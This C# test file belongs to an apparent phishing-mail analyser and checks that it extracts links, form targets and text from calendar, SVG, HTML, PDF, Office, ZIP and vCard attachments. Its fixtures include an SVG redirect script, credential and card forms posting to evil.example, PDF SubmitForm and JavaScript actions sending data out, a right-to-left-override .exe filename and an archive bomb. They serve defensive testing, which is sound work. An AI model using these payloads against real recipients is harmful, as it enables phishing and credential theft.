using System.IO.Compression;
using System.Text;
using Miyaburi.Messages;

namespace Miyaburi.Tests.Messages;

public sealed class AttachmentTests
{
    private static Message With(string header, byte[] content, AnalysisLimits? limits = null)
    {
        var encoded = Convert.ToBase64String(content, Base64FormattingOptions.InsertLineBreaks);
        var body = $"--b\nContent-Type: text/plain\n\nsee attachment\n--b\n{header}\nContent-Transfer-Encoding: base64\n\n{encoded}\n--b--\n";
        return Samples.Read(Samples.Mail("Content-Type: multipart/mixed; boundary=b", Samples.Utf8(body)), new() { Limits = limits ?? AnalysisLimits.Default });
    }

    private static Message With(string header, string content) => With(header, Encoding.UTF8.GetBytes(content));

    private static byte[] Zip(params (string Name, string Text)[] entries)
    {
        using var output = new MemoryStream();
        using (var archive = new ZipArchive(output, ZipArchiveMode.Create))
        {
            foreach (var (name, text) in entries)
            {
                using var stream = archive.CreateEntry(name).Open();
                stream.Write(Encoding.UTF8.GetBytes(text));
            }
        }

        return output.ToArray();
    }

    private static byte[] Deflate(string text)
    {
        using var output = new MemoryStream();
        using (var stream = new ZLibStream(output, CompressionMode.Compress))
        {
            stream.Write(Encoding.Latin1.GetBytes(text));
        }

        return output.ToArray();
    }

    [Fact]
    public void Read_Calendar_TextAndLinks()
    {
        var message = With("Content-Type: text/calendar; charset=utf-8", """
            BEGIN:VCALENDAR
            SUMMARY:お支払い\, 至急
            DESCRIPTION:下記より\nご確認くだ
             さい https://evil.example/a
            LOCATION;LANGUAGE=ja:オンライン
            URL:https://evil.example/b
            ATTACH;FMTTYPE=text/html:https://evil.example/c
            X-ALT-DESC;FMTTYPE=text/html:<a href="https://evil.example/d">開く</a>
            END:VCALENDAR
            """.ReplaceLineEndings("\r\n"));

        Assert.Equal("お支払い, 至急\n下記より\nご確認ください https://evil.example/a\nオンライン", Samples.Text(message, "attachment1"));
        Assert.Equal(["https://evil.example/b", "https://evil.example/c", "https://evil.example/d"], message.Targets.Select(t => t.Url));
        Assert.Equal("開く", Samples.Visible(message, message.Targets[2]));
        Assert.Equal(("ics", AttachmentReading.Read), (message.Attachments[0].Kind, message.Attachments[0].Reading));
    }

    [Fact]
    public void Read_Svg_LinksScriptsAndForeignText()
    {
        var message = With("Content-Type: image/svg+xml; name=invoice.svg", """
            <?xml version="1.0"?>
            <!DOCTYPE svg [ <!ENTITY u "https://evil.example/e"> ]>
            <svg xmlns="http://www.w3.org/2000/svg" onload="go()">
              <a xlink:href="&u;"><text>請求書</text></a>
              <script><![CDATA[ window.location.href = "https:\/\/evil.example\/s"; var x = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYg=='); ]]></script>
              <foreignObject><form action="https://evil.example/f"><input type="password"/></form></foreignObject>
            </svg>
            """);

        Assert.Equal(["https://evil.example/e", "https://evil.example/s", "https://evil.example/b", "https://evil.example/f"], message.Targets.Select(t => t.Url));
        Assert.Equal("請求書", Samples.Text(message, "attachment1"));
        Assert.Equal((2, 1, "svg"), (message.Markup.Scripts, message.Markup.PasswordFields, message.Attachments[0].Kind));
    }

    [Theory]
    [InlineData("<!ENTITY u \"\">", "&u;")]
    [InlineData("<!ENTITY u \" \">", "&u;")]
    [InlineData("<!ENTITY u '#top'>", "&u;")]
    [InlineData("", "&#35;top")]
    public void Read_SvgWhoseAddressStandsForNothing_HasNoTarget(string declaration, string address) =>
        Assert.Empty(With("Content-Type: image/svg+xml; name=a.svg", $"<!DOCTYPE svg [{declaration}]><svg><a xlink:href=\"{address}\"><text>x</text></a></svg>").Targets);

    [Theory]
    [InlineData("Content-Type: application/octet-stream; name=\"請求書.shtml\"")]
    [InlineData("Content-Type: text/html; name=x\nContent-Disposition: attachment")]
    [InlineData("Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"invoice.xht\"")]
    public void Read_HtmlFile_IsReadAsAttachment(string header)
    {
        var message = With(header, "<html><body><p>カード番号</p><form action='https://evil.example/'><input name=card></form>");

        Assert.Equal(["see attachment", "カード番号"], message.Parts.Select(p => p.Text));
        Assert.Equal((TargetKind.FormAction, "attachment1"), (message.Targets[0].Kind, message.Targets[0].PartId));
    }

    [Fact]
    public void Read_Pdf_LinksPlainAndCompressedAndText()
    {
        byte[] stream = Deflate("3 0 obj <</A <</S /URI /URI <68747470733A2F2F6576696C2E6578616D706C652F7A>>>>> BT 1 0 0 1 70 700 Tm (Your bill ) Tj ET BT 1 0 0 1 99 700 Tm [(is over) -20 (due)] TJ ET BT 70 600 Td (Pay) Tj ET");
        byte[] pdf = [.. "%PDF-1.7\n1 0 obj <</Type /Annot /A <</S /URI /URI (https://evil.example/\\(a\\)?b=(c)\\053) >> >> endobj\n2 0 obj <</Filter /FlateDecode /Length 1>>\nstream\r\n"u8, .. stream, .. "\nendstream\n%%EOF"u8];

        var message = With("Content-Type: application/pdf; name=a.pdf", pdf);

        Assert.Equal(["https://evil.example/(a)?b=(c)+", "https://evil.example/z"], message.Targets.Select(t => t.Url));
        Assert.Equal("Your bill is overdue\nPay", Samples.Text(message, "attachment1"));
        Assert.Equal(new Attachment("a.pdf", "application/pdf", "pdf", pdf.Length, AttachmentReading.Read), message.Attachments[0]);
    }

    /// <summary>Readers of PDF find objects by their table; brackets left open in what they skip hide nothing from us either.</summary>
    [Theory]
    [InlineData("% /URI (open\n")]
    [InlineData("% /URI (\n")]
    public void Read_PdfWithOpenBracketsBeforeALink_FindsIt(string open)
    {
        var pdf = Encoding.Latin1.GetBytes("%PDF-1.7\n" + string.Concat(Enumerable.Repeat(open, 3000)) + "1 0 obj <</S /URI /URI (https://evil.example/take)>> endobj\n%%EOF");
        Assert.Contains(With("Content-Type: application/pdf; name=a.pdf", pdf).Targets, t => t.Url == "https://evil.example/take");
    }

    [Theory]
    [InlineData("1 0 obj <</FT /Btn /A <</S /SubmitForm /F <</FS /URL /F (https://evil.example/take)>> /Flags 4>>>>", TargetKind.FormAction)]
    [InlineData("1 0 obj <</A <</F <</FS /URL /UF <FEFF00680074007400700073003A002F002F006500760069006C002E006500780061006D0070006C0065002F00740061006B0065>>> /S/SubmitForm>>>>", TargetKind.FormAction)]
    [InlineData("1 0 obj <</A <</S /JavaScript /JS (this.submitForm\\({cURL: \"https://evil.example/take\"}\\);)>>>>", TargetKind.FormAction)]
    [InlineData("1 0 obj <</OpenAction <</S /JavaScript /JS (app.launchURL\\('https://evil.example/take', true\\))>>>>", TargetKind.FormAction)]
    [InlineData("<event><submit format=\"xdp\" target=\"https://evil.example/take\"/></event>", TargetKind.FormAction)]
    [InlineData("1 0 obj <</A <</S /GoToR /F (https://evil.example/take)>>>>", TargetKind.Attachment)]
    public void Read_PdfForm_GivesUpWhereItSends(string objects, TargetKind kind)
    {
        byte[] packed = [.. "%PDF-1.7\n2 0 obj <</Filter /FlateDecode>>\nstream\n"u8, .. Deflate(objects), .. "\nendstream"u8];

        foreach (var pdf in new[] { Encoding.Latin1.GetBytes("%PDF-1.7\n" + objects), packed })
        {
            var target = Assert.Single(With("Content-Type: application/pdf; name=a.pdf", pdf).Targets);
            Assert.Equal((kind, "https://evil.example/take"), (target.Kind, target.Url));
        }
    }

    [Fact]
    public void Read_PdfFileNames_AreNoLinks() =>
        Assert.Empty(With("Content-Type: application/pdf; name=a.pdf", "%PDF-1.7 1 0 obj <</Type /Filespec /F (http.txt) /UF (report.pdf)>> /F 4 /Font /F1 12 Tf").Targets);

    [Fact]
    public void Read_EncryptedPdf_SaysSo()
    {
        var message = With("Content-Type: application/pdf; name=a.pdf", "%PDF-1.7\ntrailer <</Encrypt 5 0 R>>");

        Assert.Equal(AttachmentReading.Encrypted, message.Attachments[0].Reading);
        Assert.Contains(new Unknown("attachmentEncrypted", "a.pdf"), message.Unknowns);
    }

    [Fact]
    public void Read_WordDocument_HyperlinksFieldCodesAndText()
    {
        var bytes = Zip(
            ("[Content_Types].xml", "<Types/>"),
            ("word/_rels/document.xml.rels", "<Relationships><Relationship Type='x/hyperlink' Target='https://evil.example/?a=1&amp;b=2' TargetMode='External'/><Relationship Target='media/1.png'/></Relationships>"),
            ("word/document.xml", "<w:document><w:p><w:r><w:t>お支払い</w:t></w:r><w:r><w:t>のお願い</w:t></w:r></w:p><w:p><w:r><w:instrText> HYPERLINK &quot;https://evil.ex</w:instrText></w:r><w:r><w:instrText>ample/f&quot; \\o</w:instrText></w:r></w:p></w:document>"));

        var message = With("Content-Type: application/octet-stream; name=a.docx", bytes);

        Assert.Equal(["https://evil.example/?a=1&b=2", "https://evil.example/f"], message.Targets.Select(t => t.Url));
        Assert.Equal("お支払いのお願い", Samples.Text(message, "attachment1"));
        Assert.Equal("office", message.Attachments[0].Kind);
    }

    [Fact]
    public void Read_ArchiveBomb_StopsAtTheLimit()
    {
        var bytes = Zip([("[Content_Types].xml", ""), .. Enumerable.Range(0, 40).Select(i => ($"xl/worksheets/sheet{i}.xml", new string(' ', 1_000_000)))]);

        var message = With("Content-Type: application/octet-stream; name=a.xlsx", bytes, new() { AttachmentBytes = 4_000_000 });

        Assert.Contains(new Unknown("limitReached", "attachmentBytes"), message.Unknowns);
    }

    [Fact]
    public void Read_EncryptedArchive_SaysSo()
    {
        var bytes = Zip(("a.exe", "x"));
        // The lowest flag bit of local header and directory entry.
        bytes[6] |= 1;
        bytes[bytes.AsSpan().IndexOf("PK\u0001\u0002"u8) + 8] |= 1;

        Assert.Equal(AttachmentReading.Encrypted, With("Content-Type: application/zip; name=a.zip", bytes).Attachments[0].Reading);
    }

    [Theory]
    [InlineData("MZ\u0090\0", "請求書.pdf.exe", "program")]
    [InlineData("\u0089PNG\r\n", "a.pdf", "image")]
    [InlineData("var x;", "a.js", "program")]
    [InlineData("<plist><dict><key>PayloadContent</key></dict></plist>", "a.txt", "mobileconfig")]
    [InlineData("PK\u0003\u0004\0\0AndroidManifest.xml", "x.zip", "apk")]
    [InlineData("PK\u0003\u0004\0\0", "x.zip", "zip")]
    [InlineData("Rar!\u001A", "x.rar", "zip")]
    [InlineData("\0\u0001\u0002", "x.bin", "other")]
    [InlineData("%PDF-1.4", "x.txt", "pdf")]
    public void Read_KindComesFromTheBytes(string start, string name, string kind) =>
        Assert.Equal((kind, name), (With($"Content-Type: application/octet-stream; name=\"{name}\"", Encoding.Latin1.GetBytes(start)).Attachments[0]) is var a ? (a.Kind, a.FileName) : default);

    [Theory]
    [InlineData("filename=\"=?ISO-2022-JP?B?GyRCQEE1YT1xGyhCLnBkZg==?=\"", "請求書.pdf")]
    [InlineData("filename*=utf-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf", "請求書.pdf")]
    [InlineData("filename*0*=shift_jis'ja'%90%BF%8B%81;\n filename*1*=%8F%91.;\n filename*2=pdf", "請求書.pdf")]
    [InlineData("filename=\"請求書.pdf\"", "請求書.pdf")]
    [InlineData("filename=a b.pdf; size=3", "a b.pdf")]
    [InlineData("filename=\"C:\\x\\y.pdf\"", "C:\\x\\y.pdf")]
    [InlineData("filename=\"invoice\u202Efdp.exe\"", "invoice\u202Efdp.exe")]
    public void Read_FileNames(string parameter, string name) =>
        Assert.Equal(name, With($"Content-Type: application/pdf\nContent-Disposition: attachment; {parameter}", "%PDF-1.4").Attachments[0].FileName);

    [Fact]
    public void Read_MailAsFile_IsInner()
    {
        var body = $"--b\nContent-Type: application/octet-stream; name=a.eml\nContent-Transfer-Encoding: base64\n\n{Convert.ToBase64String(Samples.Utf8("From: x@evil.example\nSubject: 中\nMIME-Version: 1.0\n\n支払え"))}\n--b--";
        var reading = Assert.IsType<Reading.Read>(MessageReader.Read(Samples.Mail("Content-Type: multipart/mixed; boundary=b", Samples.Utf8(body)), ReadOptions.Default));

        Assert.Equal("支払え", Samples.Text(Assert.Single(reading.Inner), "body"));
    }

    [Fact]
    public void Read_BusinessCard_Text() =>
        Assert.Equal("山田\n+81 90-1234-5678", Samples.Text(With("Content-Type: text/vcard", "BEGIN:VCARD\r\nFN:山田\r\nTEL:+81 90-1234-5678\r\nURL:https://evil.example/\r\nEND:VCARD"), "attachment1"));
}
